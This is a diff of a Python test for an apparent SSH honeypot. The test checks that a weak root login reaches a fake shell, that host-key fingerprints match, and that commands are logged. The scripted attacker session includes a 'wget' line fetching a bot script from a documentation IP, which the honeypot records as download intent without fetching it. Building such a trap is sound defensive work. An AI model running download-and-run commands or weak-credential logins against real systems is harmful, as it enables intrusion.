@@ -212,6 +212,8 @@ def test_openssh_reaches_the_password_prompt_and_a_weak_login_gets_the_shell(
         "wget http://203.0.113.9/bot.sh",
         "exit",
     ]
+    assert commands[2]["download_intent"] == ["http://203.0.113.9/bot.sh"]  # never fetched
+    assert "download_intent" not in commands[0]
     sessions = yield stored(app, node, "trap.session", "ssh", 3)
     assert all(len(s["hassh"]) == 32 and "curve25519-sha256" in s["kex_offer"]["kex_algorithms"]
                for s in sessions)  # fmt: skip
@@ -222,6 +224,17 @@ def test_openssh_reaches_the_password_prompt_and_a_weak_login_gets_the_shell(
     )
     keys = node.config.data_path(Path("traps/ssh"))
     assert sorted(p.name for p in keys.iterdir()) == ["ssh_host_ed25519_key", "ssh_host_rsa_key"]
+    # The shell's host key is the one OpenSSH was shown, and its w names the client.
+    scanned = yield run("ssh-keyscan", "-p", p, "-t", "ed25519", "127.0.0.1")
+    shown = yield run("ssh-keygen", "-lf", "-", stdin=scanned.stdout)
+    inside = yield run(
+        "sshpass", "-p", "root", "ssh", *SSH_OPTS, "-p", p, "root@127.0.0.1",
+        "ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub; w",
+    )  # fmt: skip
+    fingerprint = shown.stdout.decode().split()[1]
+    assert fingerprint.startswith("SHA256:")
+    assert inside.stdout.decode().split()[1] == fingerprint
+    assert re.search(r"^root +pts/0 +127\.0\.0\.1 ", inside.stdout.decode(), re.M)
 
 
 @pytest_twisted.inlineCallbacks
